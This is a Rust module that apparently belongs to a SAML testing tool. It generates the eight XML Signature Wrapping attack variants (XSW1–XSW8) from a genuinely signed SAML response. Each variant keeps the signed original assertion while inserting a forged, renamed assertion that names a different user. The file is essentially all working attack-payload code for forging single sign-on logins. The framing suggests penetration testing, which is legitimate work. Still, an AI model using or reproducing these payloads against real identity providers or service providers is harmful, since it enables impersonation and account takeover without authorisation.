//! Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the eight shapes by the numbers that testers know
//! them by, each built from an answer that is really signed. In each, something signed is still there, and something else
//! says who it is.

/// An answer taken apart.
struct Parts<'t> {
    response: &'t str,
    assertion: &'t str,
    /// The assertion's signature.
    signature: &'t str,
}

impl<'t> Parts<'t> {
    fn of(response: &'t str) -> Self {
        let assertion = element(response, "saml:Assertion");
        Self { response, assertion, signature: element(assertion, "ds:Signature") }
    }

    /// The assertion, unsigned, of somebody else and with another ID.
    fn evil(&self, was: &str, now: &str) -> String {
        self.renamed(was, now).replace(self.signature, "")
    }

    /// The assertion with its signature as it is, of somebody else and with another ID.
    fn renamed(&self, was: &str, now: &str) -> String {
        let ends =
            self.assertion.find(self.signature).expect("the signature") + self.signature.len();
        let (head, tail) = self.assertion.split_at(ends);
        let head = head.replacen(" ID=\"_", " ID=\"_evil", 1);
        format!("{head}{}", tail.replace(&format!(">{was}<"), &format!(">{now}<")))
    }

    /// The assertion as it was when it was signed.
    fn original(&self) -> String {
        self.assertion.replace(self.signature, "")
    }

    fn with(&self, assertions: &str) -> String {
        self.response.replace(self.assertion, assertions)
    }
}

/// An element's text, from its start tag to its end tag.
fn element<'t>(text: &'t str, name: &str) -> &'t str {
    let start = text.find(&format!("<{name}")).expect(name);
    let close = format!("</{name}>");
    let end = text.find(&close).expect(name) + close.len();
    &text[start..end]
}

/// The six shapes around an assertion that is signed; `was` signed in, `now` would.
pub(crate) fn of_assertions(response: &str, was: &str, now: &str) -> Vec<(&'static str, String)> {
    let parts = Parts::of(response);
    let (evil, renamed, original) =
        (parts.evil(was, now), parts.renamed(was, now), parts.original());
    let inside = |outer: &str, close: &str, inner: &str| {
        let at = outer.rfind(close).expect(close);
        format!("{}{inner}{}", &outer[..at], &outer[at..])
    };
    let in_signature = |inner: &str| {
        let signature = inside(parts.signature, "</ds:Signature>", inner);
        renamed.replace(parts.signature, &signature)
    };
    vec![
        ("XSW3", parts.with(&format!("{evil}{}", parts.assertion))),
        ("XSW4", parts.with(&inside(&evil, "</saml:Assertion>", parts.assertion))),
        ("XSW5", parts.with(&format!("{renamed}{original}"))),
        ("XSW6", parts.with(&in_signature(&original))),
        (
            "XSW7",
            parts.with(&format!("<samlp:Extensions>{evil}</samlp:Extensions>{}", parts.assertion)),
        ),
        ("XSW8", parts.with(&in_signature(&format!("<ds:Object>{original}</ds:Object>")))),
    ]
}

/// The two shapes around a response that is signed. What it says besides is not signed by itself, or no longer.
pub(crate) fn of_responses(response: &str, was: &str, now: &str) -> Vec<(&'static str, String)> {
    let signature = element(response, "ds:Signature");
    let original = response.replacen(signature, "", 1);
    let evil = original
        .replacen(" ID=\"_", " ID=\"_evil", 1)
        .replace(&format!(">{was}<"), &format!(">{now}<"));
    let at = evil.find("</saml:Issuer>").expect("an issuer") + "</saml:Issuer>".len();
    let (head, tail) = evil.split_at(at);
    let close = "</ds:Signature>";
    let wrapping = signature.replace(close, &format!("{original}{close}"));
    vec![
        ("XSW1", format!("{head}{wrapping}{tail}")),
        ("XSW2", format!("{head}{original}{signature}{tail}")),
    ]
}
